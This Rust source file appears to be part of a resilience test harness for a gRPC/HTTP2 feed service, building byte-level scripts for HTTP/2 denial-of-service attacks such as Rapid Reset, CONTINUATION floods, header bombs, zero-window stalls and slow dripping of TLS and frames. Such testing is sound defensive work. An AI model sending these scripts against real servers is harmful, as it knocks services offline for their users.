//! What each attacker sends, step by step.

use std::time::Duration;

use super::{
    Attack,
    frames::{
        CONTINUATION, DATA, END_HEADERS, HEADERS, PING, PREFACE, RESET, SETTINGS, WINDOW_UPDATE, bomb, frame, message,
        request,
    },
};

/// What an attacker sends.
pub(super) struct Script {
    /// In this order.
    pub(super) steps: Vec<Vec<u8>>,
    /// After each.
    pub(super) pause: Duration,
    /// Whether it reads what it is told.
    pub(super) is_reading: bool,
    /// Says something this often once all is sent.
    pub(super) heartbeat: Option<Duration>,
}

/// Nothing at all.
pub(super) fn silence() -> Script {
    Script { steps: Vec::new(), pause: Duration::ZERO, is_reading: true, heartbeat: None }
}

/// This, and nothing more.
pub(super) fn one(step: Vec<u8>) -> Script {
    Script { steps: vec![step], ..silence() }
}

/// The beginning of every connection, and nothing more.
pub(super) fn preface() -> Script {
    one([PREFACE, &frame(SETTINGS, 0, 0, &[])].concat())
}

/// The head of a record that would hold a `ClientHello`, and then its first bytes, one by one.
pub(super) fn slow_tls() -> Script {
    let hello = [&[22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3][..], &[7; 500]].concat();
    Script { steps: hello.chunks(1).map(<[u8]>::to_vec).collect(), pause: Duration::from_millis(500), ..silence() }
}

/// The attack's script, `steps` long where it has a length. A stream that is to be listened to begins with `opening`.
pub(super) fn of(attack: Attack, path: &str, opening: Option<&[u8]>, steps: usize) -> Script {
    let begin = |stream| frame(HEADERS, END_HEADERS, stream, &request(path));
    let data = |content: &[u8]| frame(DATA, 0, 1, content);
    let opening: Vec<_> = opening.into_iter().map(|opening| data(&message(opening))).collect();
    let one = |rest: Vec<Vec<u8>>| [vec![begin(1)], opening, rest].concat();
    let each = |step: &dyn Fn(u32) -> Vec<u8>| streams(steps).map(step).collect::<Vec<_>>();
    let (steps, pause) = match attack {
        Attack::RapidReset => (each(&|id| [begin(id), frame(RESET, 0, id, &8_u32.to_be_bytes())].concat()), 0),
        // An increment of nothing is an error of the stream (RFC 9113, 6.9).
        Attack::ProvokedReset => (each(&|id| [begin(id), frame(WINDOW_UPDATE, 0, id, &[0; 4])].concat()), 0),
        Attack::Continuation => {
            let first = vec![frame(HEADERS, 0, 1, &request(path))];
            ([first, vec![frame(CONTINUATION, 0, 1, b"\0\x01a\x01b"); steps]].concat(), 0)
        }
        Attack::EmptyData => (one(vec![data(&[]); steps]), 0),
        Attack::TinyData => (one([vec![data(&[0, 0, 15, 0, 0])], vec![data(b"x"); steps]].concat()), 0),
        Attack::Ping => (vec![frame(PING, 0, 0, &[7; 8]); steps], 0),
        Attack::Settings => (vec![frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]); steps], 0),
        Attack::UnknownFrames => (vec![frame(0xbe, 0, 0, &[7; 8]); steps], 0),
        Attack::HeaderBomb => {
            let block = [request(path), bomb(3900, 12 << 10)].concat();
            (vec![frame(HEADERS, END_HEADERS, 1, &block)], 0)
        }
        Attack::Oversize => (one(vec![data(&[0, 0, 0x20, 0, 0]), data(&[7; 1000])]), 0),
        Attack::Recursion => {
            // As deep as fits into the window that a connection begins with.
            let nested = message(&[vec![0x7b; 30_000], vec![0x7c; 30_000]].concat());
            (one(nested.chunks(16 << 10).map(data).collect()), 0)
        }
        Attack::StalledMessage => (one(vec![data(&[0, 0, 0, 0, 100, 1, 2, 3])]), 0),
        Attack::DrippedMessage => (one([vec![data(&[0, 0, 0, 15, 0])], vec![data(b"x"); 600]].concat()), 500),
        Attack::DrippedFrame => {
            let whole = data(&[7; 1000]);
            (one(whole.chunks(1).map(<[u8]>::to_vec).collect()), 500)
        }
        Attack::Unread => {
            // A window of nothing, and requests whose answers would fill it.
            let window = frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]);
            (std::iter::once(window).chain(streams(16).map(ask)).collect(), 0)
        }
        Attack::Deaf => {
            // The widest window, and nobody who reads what comes.
            let window = frame(SETTINGS, 0, 0, &[0, 4, 0x7f, 0xff, 0xff, 0xff]);
            (std::iter::once(window).chain(streams(steps).map(ask)).collect(), 0)
        }
        Attack::ManyRequests => (each(&begin), 0),
    };
    let is_deaf = attack == Attack::Deaf;
    Script {
        steps: [preface().steps, steps].concat(),
        pause: Duration::from_millis(pause),
        is_reading: !is_deaf,
        heartbeat: is_deaf.then_some(Duration::from_secs(1)),
    }
}

/// A question to the feed that is answered with its state.
fn ask(stream: u32) -> Vec<u8> {
    let head = request("/faultline.feed.v1.FeedService/GetSnapshot");
    [frame(HEADERS, END_HEADERS, stream, &head), frame(DATA, 1, stream, &message(&[]))].concat()
}

/// Numbers of streams that a client opens.
fn streams(count: usize) -> impl Iterator<Item = u32> {
    (0..u32::try_from(count).unwrap_or(u32::MAX)).map(|n| n * 2 + 1)
}
